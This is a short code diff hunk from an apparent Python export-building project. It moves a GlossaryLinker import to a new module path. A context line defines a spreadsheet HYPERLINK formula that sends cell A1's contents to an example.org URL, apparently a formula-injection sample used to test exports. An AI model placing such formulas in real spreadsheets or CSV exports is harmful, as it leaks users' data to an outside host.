@@ -18,7 +18,7 @@ from companion_build.exports.tables import (
     write_glossary_tsv,
     write_prompts_csv,
 )
-from companion_build.glossary_links import GlossaryLinker
+from companion_build.pages.glossary_links import GlossaryLinker
 from exercises.model import ChapterContent
 
 FORMULA = '=HYPERLINK("https://example.org/?q="&A1,"Click")'
